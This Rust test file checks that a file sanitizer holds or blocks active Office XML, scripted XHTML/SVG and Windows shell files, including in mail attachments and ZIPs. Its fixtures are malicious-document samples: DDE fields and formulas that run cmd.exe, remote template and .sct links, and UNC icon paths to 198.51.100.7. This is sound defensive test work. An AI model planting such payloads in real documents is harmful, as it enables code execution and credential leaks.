//! Issue #20, classes 1 and 8: XML is classified by parsing the whole document (Office XML,
//! XHTML, SVG and styled or scripted XML never pass as text, wherever their markers sit), and
//! Windows shell files (desktop.ini, .url, .scf, .library-ms, .searchConnector-ms,
//! .settingcontent-ms) are blocked by name and by content — at top level, as mail attachments
//! and inside a ZIP.

use crate::common;

use common::generate::{attachment_part, eml, multipart, zip_of};
use common::*;
use mukaika_sanitizers::mail::{self, Disposition};
use mukaika_sanitizers::{FileKind, Policy, Registry, Verdict, What};

const WORDML_NS: &str = "http://schemas.microsoft.com/office/word/2003/wordml";

/// Word 2003 XML with a DDEAUTO field and a remote template, without an XML declaration.
fn wordml_without_declaration() -> Vec<u8> {
    format!(
        "<w:wordDocument xmlns:w=\"{WORDML_NS}\">\
         <w:docPr><w:attachedTemplate w:val=\"\\\\198.51.100.7\\share\\t.dotm\"/></w:docPr>\
         <w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>\
         <w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r>\
         <w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:wordDocument>"
    )
    .into_bytes()
}

/// Word 2003 XML whose `mso-application` PI and root come after a 10 KB comment.
fn wordml_after_long_comment() -> Vec<u8> {
    let mut doc = String::from("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!--");
    doc.push_str(&"padding ".repeat(10 * 1024 / 8));
    doc.push_str("-->\n<?mso-application progid=\"Word.Document\"?>\n");
    doc.push_str(&String::from_utf8(wordml_without_declaration()).unwrap());
    doc.into_bytes()
}

/// SpreadsheetML with a DDE formula, no XML declaration.
fn spreadsheetml_dde() -> Vec<u8> {
    b"<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" \
      xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">\
      <Worksheet ss:Name=\"S\"><Table><Row>\
      <Cell ss:Formula=\"=cmd|'/c calc'!A0\"><Data ss:Type=\"Number\">0</Data></Cell>\
      </Row></Table></Worksheet></Workbook>"
        .to_vec()
}

/// Flat OPC: a whole docx as one XML file, here with an external oleObject link.
fn flat_opc() -> Vec<u8> {
    b"<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">\
      <pkg:part pkg:name=\"/word/_rels/document.xml.rels\" \
      pkg:contentType=\"application/vnd.openxmlformats-package.relationships+xml\">\
      <pkg:xmlData><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
      <Relationship Id=\"rId9\" \
      Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" \
      Target=\"http://198.51.100.7/x.sct\" TargetMode=\"External\"/>\
      </Relationships></pkg:xmlData></pkg:part></pkg:package>"
        .to_vec()
}

/// XHTML whose script, prefixed, sits far past the first kilobytes.
fn xhtml_prefixed_script() -> Vec<u8> {
    let mut doc = String::from(
        "<?xml version=\"1.0\"?>\n<h:html xmlns:h=\"http://www.w3.org/1999/xhtml\">\
         <h:head><h:title>お知らせ</h:title></h:head><h:body><h:p>",
    );
    doc.push_str(&"本文です。".repeat(600));
    doc.push_str(
        "</h:p><h:script>document.location='http://198.51.100.7/'</h:script></h:body></h:html>",
    );
    doc.into_bytes()
}

/// SVG with an onload handler, its root prefixed so no `<svg` appears anywhere.
fn svg_prefixed_onload() -> Vec<u8> {
    b"<s:svg xmlns:s=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\" \
      onload=\"alert(document.domain)\"><s:rect width=\"10\" height=\"10\"/></s:svg>"
        .to_vec()
}

/// SVG with onload after a 5 KB comment.
fn svg_after_long_comment() -> Vec<u8> {
    let mut doc = String::from("<!--");
    doc.push_str(&"x".repeat(5 * 1024));
    doc.push_str(
        "-->\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\" width=\"4\" height=\"4\"/>",
    );
    doc.into_bytes()
}

/// Plain data XML with a stylesheet PI: a browser renders it through XSLT.
fn data_with_stylesheet() -> Vec<u8> {
    b"<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/xsl\" href=\"http://198.51.100.7/x.xsl\"?>\n\
      <records><record id=\"1\">a</record></records>"
        .to_vec()
}

fn utf16le_with_bom(text: &[u8]) -> Vec<u8> {
    let text = std::str::from_utf8(text).unwrap();
    let mut out = vec![0xFF, 0xFE];
    for unit in text.encode_utf16() {
        out.extend_from_slice(&unit.to_le_bytes());
    }
    out
}

fn with_utf8_bom(text: &[u8]) -> Vec<u8> {
    let mut out = b"\xEF\xBB\xBF".to_vec();
    out.extend_from_slice(text);
    out
}

/// Held (quarantined) with nothing delivered, detected as `kind`.
#[track_caller]
fn assert_held_as(bytes: &[u8], name: &str, kind: FileKind) {
    let outcome = process(bytes, name);
    assert!(
        outcome.output().is_none(),
        "{name}: delivered {:?}",
        outcome.report.output
    );
    assert_eq!(
        outcome.report.verdict,
        Verdict::Quarantined,
        "{name}: {:?}",
        outcome.report.reason
    );
    assert_eq!(outcome.report.detected_type, kind, "{name}");
}

/// Blocked, nothing delivered, detected as a shell file.
#[track_caller]
fn assert_blocked_shell(outcome: &mukaika_sanitizers::Outcome, name: &str) {
    assert!(outcome.output().is_none(), "{name}: delivered");
    assert_eq!(
        outcome.report.verdict,
        Verdict::Blocked,
        "{name}: {:?}",
        outcome.report.reason
    );
}

#[test]
fn wordml_without_xml_declaration_is_held_as_office_xml() {
    assert_held_as(
        &wordml_without_declaration(),
        "文書.xml",
        FileKind::OfficeXml,
    );
    let outcome = process(&wordml_without_declaration(), "文書.xml");
    let reason = outcome.report.reason.unwrap();
    assert!(reason.detail.contains(WORDML_NS), "{reason:?}");
}

#[test]
fn wordml_after_a_10kb_comment_is_held_as_office_xml() {
    let doc = wordml_after_long_comment();
    assert!(doc.len() > 10 * 1024);
    assert_held_as(&doc, "report.xml", FileKind::OfficeXml);
    let outcome = process(&doc, "report.xml");
    assert!(outcome
        .report
        .reason
        .unwrap()
        .detail
        .contains("mso-application"));
}

#[test]
fn spreadsheetml_with_dde_formula_is_held_as_office_xml() {
    assert_held_as(&spreadsheetml_dde(), "集計.xml", FileKind::OfficeXml);
}

#[test]
fn flat_opc_package_is_held_as_office_xml() {
    assert_held_as(&flat_opc(), "契約.xml", FileKind::OfficeXml);
}

#[test]
fn utf16_and_bom_office_xml_is_held() {
    let utf16 = utf16le_with_bom(&wordml_after_long_comment());
    assert_held_as(&utf16, "utf16.xml", FileKind::OfficeXml);
    let bom = with_utf8_bom(&spreadsheetml_dde());
    assert_held_as(&bom, "bom.xml", FileKind::OfficeXml);
}

#[test]
fn xhtml_with_prefixed_script_far_into_the_file_is_converted_to_text() {
    let doc = xhtml_prefixed_script();
    let script_at = String::from_utf8_lossy(&doc).find("<h:script").unwrap();
    assert!(script_at > 4096);
    let outcome = process(&doc, "page.xml");
    assert_eq!(outcome.report.detected_type, FileKind::Html);
    assert_eq!(
        outcome.report.verdict,
        Verdict::Sanitized,
        "{:?}",
        outcome.report.reason
    );
    let out = outcome.output().unwrap();
    assert_eq!(out.kind(), FileKind::Text);
    assert!(out.name().ends_with(".txt"), "{}", out.name());
    let text = String::from_utf8_lossy(out.bytes());
    assert!(!text.contains("<h:"), "markup survived");
    assert!(text.contains("本文です。"));
    assert!(removed(&outcome, What::Javascript, "script"));
}

#[test]
fn svg_root_with_onload_in_xml_or_txt_is_never_passed() {
    for (bytes, name) in [
        (svg_prefixed_onload(), "icon.xml"),
        (svg_prefixed_onload(), "icon.txt"),
        (svg_after_long_comment(), "logo.xml"),
        (utf16le_with_bom(&svg_prefixed_onload()), "utf16.xml"),
    ] {
        let outcome = process(&bytes, name);
        assert_eq!(outcome.report.detected_type, FileKind::Svg, "{name}");
        assert_ne!(outcome.report.verdict, Verdict::Passed, "{name}");
        if let Some(out) = outcome.output() {
            assert_eq!(out.kind(), FileKind::Png, "{name}: only a raster may leave");
        }
    }
}

#[test]
fn data_xml_with_a_stylesheet_pi_is_held() {
    assert_held_as(&data_with_stylesheet(), "data.xml", FileKind::XmlActive);
    let reason = process(&data_with_stylesheet(), "data.xml")
        .report
        .reason
        .unwrap();
    assert!(reason.detail.contains("xml-stylesheet"), "{reason:?}");
}

#[test]
fn xhtml_or_svg_elements_below_a_data_root_are_held() {
    let nested = b"<order><note><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script></note></order>";
    assert_held_as(nested, "order.xml", FileKind::XmlActive);
    // The namespace written with a character reference is the same namespace to a browser.
    let escaped =
        b"<order><x:script xmlns:x=\"http&#58;//www.w3.org/1999/xhtml\">1</x:script></order>";
    assert_held_as(escaped, "order.xml", FileKind::XmlActive);
    let svg = b"<order><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/></order>";
    assert_held_as(svg, "order.xml", FileKind::XmlActive);
    // Entities can carry markup a browser expands; a DOCTYPE makes data unverifiable.
    let doctype = b"<!DOCTYPE d [<!ENTITY e \"&#60;x:script xmlns:x='http://www.w3.org/1999/xhtml'&#62;1&#60;/x:script&#62;\">]><d>&e;</d>";
    assert_held_as(doctype, "d.xml", FileKind::XmlActive);
}

#[test]
fn plain_data_xml_passes_only_after_a_full_well_formedness_parse() {
    let good = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- 住所録 -->\n<住所録><人 名=\"架空 太郎\">千代田区 &amp; 1-1</人></住所録>\n";
    for (bytes, name) in [
        (good.as_bytes().to_vec(), "a.xml"),
        (with_utf8_bom(good.as_bytes()), "bom.xml"),
    ] {
        let outcome = process(&bytes, name);
        assert_eq!(
            outcome.report.verdict,
            Verdict::Passed,
            "{name}: {:?}",
            outcome.report.reason
        );
        assert_eq!(outcome.output().unwrap().bytes(), &bytes[..]);
    }
    // Declared XML that is not well-formed is not data, however harmless its first bytes.
    let mut broken = good.replace("</住所録>", "</住所>").into_bytes();
    broken.extend_from_slice(&b"<data>x</data>\n".repeat(400));
    assert_held_as(&broken, "broken.xml", FileKind::XmlActive);
}

#[test]
fn text_named_html_is_converted_even_when_its_tags_come_late() {
    let mut page = "<div>".to_string();
    page.push_str(&"お知らせ ".repeat(400));
    page.push_str("<script>fetch('http://198.51.100.7/')</script></div>");
    let outcome = process(page.as_bytes(), "notice.html");
    assert_eq!(outcome.report.detected_type, FileKind::Html);
    assert_eq!(outcome.report.verdict, Verdict::Sanitized);
    assert_eq!(outcome.output().unwrap().kind(), FileKind::Text);
}

// ---- class 8: shell files ----

fn url_shortcut() -> Vec<u8> {
    b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/x.exe\r\nIconFile=\\\\198.51.100.7\\share\\i.ico\r\nIconIndex=1\r\n".to_vec()
}

fn desktop_ini() -> Vec<u8> {
    b"[.ShellClassInfo]\r\nIconResource=\\\\198.51.100.7\\share\\folder.ico,0\r\n".to_vec()
}

fn scf() -> Vec<u8> {
    b"[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\share\\x.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n".to_vec()
}

fn library_ms() -> Vec<u8> {
    b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\">\
      <searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>\
      <url>\\\\198.51.100.7\\share</url></simpleLocation></searchConnectorDescription>\
      </searchConnectorDescriptionList></libraryDescription>"
        .to_vec()
}

fn search_connector() -> Vec<u8> {
    b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<searchConnectorDescription xmlns=\"http://schemas.microsoft.com/windows/2009/searchConnector\">\
      <simpleLocation><url>\\\\198.51.100.7\\share</url></simpleLocation></searchConnectorDescription>"
        .to_vec()
}

fn setting_content() -> Vec<u8> {
    b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\">\
      <ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation>\
      </SearchableContent></PCSettings>"
        .to_vec()
}

fn shell_files() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("desktop.ini", desktop_ini()),
        ("Desktop.INI", utf16le_with_bom(&desktop_ini())),
        ("link.url", url_shortcut()),
        ("explorer.scf", scf()),
        ("docs.library-ms", library_ms()),
        ("share.searchConnector-ms", search_connector()),
        ("setting.settingcontent-ms", setting_content()),
    ]
}

#[test]
fn shell_files_are_blocked_by_name_even_when_the_site_replaces_the_extension_list() {
    let policy = Policy::from_toml("blocked_extensions = [\"exe\"]").unwrap();
    for (name, bytes) in shell_files() {
        for policy in [&Policy::default(), &policy] {
            let outcome = process_with(&bytes, name, policy);
            assert_blocked_shell(&outcome, name);
        }
        // Any content under a shell name: Explorer goes by the name.
        assert_blocked_shell(&process(b"hello\r\n", name), name);
    }
}

#[test]
fn shell_file_content_is_blocked_under_any_name() {
    for (name, bytes) in [
        ("notes.txt", url_shortcut()),
        ("folder.txt", utf16le_with_bom(&desktop_ini())),
        ("readme.txt", scf()),
        ("library.xml", library_ms()),
        ("connector.xml", search_connector()),
        ("settings.xml", setting_content()),
    ] {
        let outcome = process(&bytes, name);
        assert_eq!(outcome.report.detected_type, FileKind::ShellFile, "{name}");
        assert_blocked_shell(&outcome, name);
    }
}

// ---- the same inputs as mail attachments and ZIP members ----

fn mail_with(attachments: &[(&str, &[u8])]) -> Vec<u8> {
    let mut parts = vec![(
        vec!["Content-Type: text/plain; charset=UTF-8".to_string()],
        "資料を送ります。\r\n".as_bytes().to_vec(),
    )];
    for (name, bytes) in attachments {
        parts.push(attachment_part(
            "application/octet-stream",
            &format!("attachment; filename=\"{name}\""),
            bytes,
        ));
    }
    eml(
        &[
            "Subject: files".into(),
            "Content-Type: multipart/mixed; boundary=\"b20\"".into(),
        ],
        &multipart("b20", &parts),
    )
}

#[test]
fn active_xml_and_shell_files_in_mail_are_never_attached_as_sent() {
    let word = wordml_without_declaration();
    let sheet = spreadsheetml_dde();
    let opc = flat_opc();
    let styled = data_with_stylesheet();
    let svg = svg_prefixed_onload();
    let xhtml = xhtml_prefixed_script();
    let url_txt = url_shortcut();
    let mut attachments: Vec<(&str, &[u8])> = vec![
        ("word.xml", &word),
        ("sheet.xml", &sheet),
        ("package.xml", &opc),
        ("styled.xml", &styled),
        ("icon.xml", &svg),
        ("page.xml", &xhtml),
        ("notes.txt", &url_txt),
    ];
    let shells = shell_files();
    attachments.extend(shells.iter().map(|(n, b)| (*n, b.as_slice())));
    let outcome = mail::convert(
        &mail_with(&attachments),
        "t20",
        &Registry::standard(),
        &Policy::default(),
    );
    let entries = &outcome.report.attachments;
    assert_eq!(entries.len(), attachments.len());
    let by_name = |name: &str| {
        entries
            .iter()
            .find(|e| e.report.input.as_deref() == Some(name))
            .unwrap_or_else(|| panic!("no entry for {name}"))
    };
    for name in [
        "word.xml",
        "sheet.xml",
        "package.xml",
        "styled.xml",
        "icon.xml",
    ] {
        assert_eq!(by_name(name).disposition, Disposition::Held, "{name}");
    }
    // XHTML arrives as its text, never as markup.
    let page = by_name("page.xml");
    assert_eq!(page.disposition, Disposition::Attached);
    assert_eq!(page.report.output_type, Some(FileKind::Text));
    for name in ["notes.txt"]
        .into_iter()
        .chain(shells.iter().map(|(n, _)| *n))
    {
        let entry = by_name(name);
        assert_eq!(entry.disposition, Disposition::Removed, "{name}");
        assert_eq!(entry.report.verdict, Verdict::Blocked, "{name}");
    }
    let message = outcome.message().expect("the text still goes on");
    let text = String::from_utf8_lossy(message.bytes());
    assert!(!text.contains("filename=\"word.xml\""));
}

#[test]
fn active_xml_inside_a_zip_holds_the_archive() {
    for (name, bytes) in [
        ("word.xml", wordml_without_declaration()),
        ("sheet.xml", spreadsheetml_dde()),
        ("package.xml", flat_opc()),
        ("styled.xml", data_with_stylesheet()),
        ("sub/logo.xml", svg_after_long_comment()),
    ] {
        let zip = zip_of(&[("readme.txt", b"hello\r\n"), (name, &bytes)]);
        let outcome = process(&zip, "files.zip");
        assert!(outcome.output().is_none(), "{name}: archive delivered");
        assert_eq!(outcome.report.verdict, Verdict::Quarantined, "{name}");
    }
}

#[test]
fn shell_files_inside_a_zip_never_reach_the_output() {
    for (name, bytes) in shell_files() {
        let zip = zip_of(&[
            ("readme.txt", b"hello\r\n"),
            (&format!("dir/{name}"), &bytes),
        ]);
        let outcome = process(&zip, "files.zip");
        if let Some(out) = outcome.output() {
            // desktop.ini is folder litter the archive sanitizer drops; the rest goes on.
            let names = zip_names(out.bytes());
            assert!(
                !names
                    .iter()
                    .any(|n| n.to_lowercase().contains(&name.to_lowercase())),
                "{name} delivered in {names:?}"
            );
        } else {
            assert_eq!(outcome.report.verdict, Verdict::Blocked, "{name}");
        }
    }
    for (name, bytes) in [("notes.txt", url_shortcut()), ("a.txt", scf())] {
        let zip = zip_of(&[("readme.txt", b"hello\r\n"), (name, &bytes)]);
        let outcome = process(&zip, "files.zip");
        assert!(outcome.output().is_none(), "{name}: archive delivered");
        assert_eq!(outcome.report.verdict, Verdict::Blocked, "{name}");
    }
}
